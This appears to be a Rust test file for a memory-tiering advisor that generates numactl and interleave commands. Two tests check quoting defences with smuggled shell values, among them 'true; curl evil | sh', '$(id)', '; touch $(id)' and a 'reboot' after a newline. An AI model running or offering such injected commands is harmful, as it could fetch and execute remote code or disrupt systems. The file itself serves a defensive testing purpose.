//! Advice appears where it keeps the target, and nowhere else.

use crate::build::{Unit, candidate, curve, cxl, hot_cold, input};
use pagetide_replay::{AdviceKind, AreaHeat, Plan, PlanOptions, plan};
use pagetide_types::{AreaKind, Bytes};

fn kinds(plan: &Plan) -> Vec<AdviceKind> {
    plan.advice.iter().map(|advice| advice.kind).collect()
}

fn moving(units: &[Unit]) -> pagetide_replay::PolicyCurve {
    let mut curve = curve("rate", units);
    curve.promoted[1] = 4096;
    candidate(curve)
}

#[test]
fn first_touch_is_advised_only_if_it_does_as_well() {
    let units = hot_cold(300, 1000, 2000.0, 200.0);
    let options = PlanOptions::default();
    let good = vec![candidate(curve("first-touch", &units)), moving(&units)];
    let plan_good = plan(input(good), &cxl(), &options);
    assert_eq!(kinds(&plan_good), [AdviceKind::FirstTouch]);
    assert_eq!(plan_good.advice[0].commands, ["numactl --preferred=0 -- ./program --size 1G"]);
    let mut spread = units.clone();
    spread.reverse();
    let bad = vec![candidate(curve("first-touch", &spread)), moving(&units)];
    assert!(kinds(&plan(input(bad), &cxl(), &options)).is_empty());
}

#[test]
fn even_heat_is_interleaved_by_bandwidth() {
    let units = hot_cold(1000, 1000, 2000.0, 1.0);
    let plan = plan(input(vec![moving(&units)]), &cxl(), &PlanOptions::default());
    assert_eq!(kinds(&plan), [AdviceKind::WeightedInterleave]);
    // 215 : 28 GB/s.
    assert!(plan.advice[0].commands[0].starts_with("echo 8 >"), "{:?}", plan.advice);
    assert!(plan.advice[0].commands[1].starts_with("echo 1 >"));
}

#[test]
fn a_loose_target_binds_everything_to_slow_memory() {
    let options = PlanOptions { target_slowdown: 1.6, ..PlanOptions::default() };
    let plan = plan(input(vec![moving(&hot_cold(30, 100, 2000.0, 200.0))]), &cxl(), &options);
    assert_eq!(kinds(&plan), [AdviceKind::BindSlow]);
    let answer = plan.recommendation.unwrap();
    assert_eq!(answer.fast_bytes, Bytes(0));
    assert!(answer.sentence.contains("without any"), "{}", answer.sentence);
}

#[test]
fn a_cold_area_may_start_slow_unless_it_warms_up() {
    let area = |name: &str, kind, share_of_bytes: f64, share: f64, peak: f64| AreaHeat {
        name: name.into(),
        kind: Some(kind),
        bytes: Bytes::gib(1),
        share_of_bytes,
        accesses_per_s: 1.0,
        share_of_accesses: share,
        peak_share_of_accesses: peak,
    };
    let mut cold = input(vec![moving(&hot_cold(300, 1000, 2000.0, 200.0))]);
    cold.areas = vec![
        area("[heap]", AreaKind::Heap, 0.4, 0.99, 1.0),
        area("/dev/shm/archive", AreaKind::Shared, 0.6, 0.01, 0.02),
    ];
    let mut warms = cold.clone();
    warms.areas[1].peak_share_of_accesses = 0.5;
    let found = plan(cold, &cxl(), &PlanOptions::default());
    assert_eq!(kinds(&found), [AdviceKind::AreaSlow]);
    assert_eq!(found.advice[0].commands, ["numactl --membind=1 --file /dev/shm/archive"]);
    assert!(plan(warms, &cxl(), &PlanOptions::default()).advice.is_empty());
}

/// A recording whose one area is cold, under this name.
fn with_cold_area(name: &str) -> Plan {
    let area = |name: &str, share_of_bytes: f64, share: f64| AreaHeat {
        name: name.into(),
        kind: Some(AreaKind::Shared),
        bytes: Bytes::gib(1),
        share_of_bytes,
        accesses_per_s: 1.0,
        share_of_accesses: share,
        peak_share_of_accesses: share,
    };
    let mut input = input(vec![moving(&hot_cold(300, 1000, 2000.0, 200.0))]);
    input.areas = vec![area("/dev/shm/hot", 0.4, 0.99), area(name, 0.6, 0.01)];
    plan(input, &cxl(), &PlanOptions::default())
}

#[test]
fn a_name_is_one_word_of_a_copied_line_or_there_is_no_line() {
    let found = with_cold_area("/dev/shm/x; touch $(id) 'y'");
    let line = r"numactl --membind=1 --file '/dev/shm/x; touch $(id) '\''y'\'''";
    assert_eq!(found.advice[0].commands, [line]);
    // As recordings show what acts on a terminal: no file has that name.
    for odd in [r"/dev/shm/\x1b[2J", "/dev/shm/a\nb"] {
        assert_eq!(with_cold_area(odd).advice[0].commands, [""; 0], "{odd}");
    }
}

#[test]
fn a_command_line_is_copied_only_if_it_was_quoted_by_us() {
    let options = PlanOptions { target_slowdown: 1.6, ..PlanOptions::default() };
    let line = |target: &str| {
        let mut input = input(vec![moving(&hot_cold(30, 100, 2000.0, 200.0))]);
        input.facts.target = target.to_owned();
        plan(input, &cxl(), &options).advice[0].commands[0].clone()
    };
    assert_eq!(line("sh -c 'sleep 1; id'"), "numactl --membind=1 -- sh -c 'sleep 1; id'");
    for foreign in ["true; curl evil | sh", "$(id)", "a\nreboot", "pid 7", "cgroup /x", ""] {
        assert_eq!(line(foreign), "numactl --membind=1 -- COMMAND", "{foreign}");
    }
}

#[test]
fn nothing_is_advised_for_an_idle_program() {
    let idle = vec![candidate(curve("first-touch", &[Unit::default()]))];
    assert!(plan(input(idle), &cxl(), &PlanOptions::default()).advice.is_empty());
}
